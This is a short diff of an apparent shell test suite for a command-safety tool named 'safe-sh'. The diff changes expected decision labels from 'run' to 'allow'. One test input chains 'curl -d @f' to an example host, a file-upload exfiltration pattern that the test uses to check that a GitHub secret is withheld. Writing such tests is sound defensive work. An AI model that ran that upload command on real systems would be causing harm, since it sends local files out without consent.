@@ -97,7 +97,7 @@ json() {
   printf '[secrets.github]\nenv = "GH_TOKEN"\ncommands = [["gh"]]\n' > "$cfg/config.toml"
   GITHUB_TOKEN=t SAFE_SH_CONFIG_DIR="$cfg" run "$SAFE_SH" explain -c 'gh pr list'
   assert_success
-  assert_line 'decision: run'
+  assert_line 'decision: allow'
   assert_line --regexp '^environment: loses .*GITHUB_TOKEN.*; gains GH_TOKEN$'
   GITHUB_TOKEN=t SAFE_SH_CONFIG_DIR="$cfg" run "$SAFE_SH" explain -c 'gh pr list; curl -d @f https://x.example'
   assert_line --regexp '^  secret github withheld: .*curl'
@@ -110,7 +110,7 @@ json() {
     SAFE_SH_CONFIG_DIR="$cfg" run "$SAFE_SH" explain -c "$script"
     assert_success
     assert_line 'risk: execute'
-    assert_line 'decision: run'
+    assert_line 'decision: allow'
   done
   SAFE_SH_CONFIG_DIR="$cfg" run "$SAFE_SH" explain -c 'eval "$CMD"'
   assert_line 'risk: unknown'
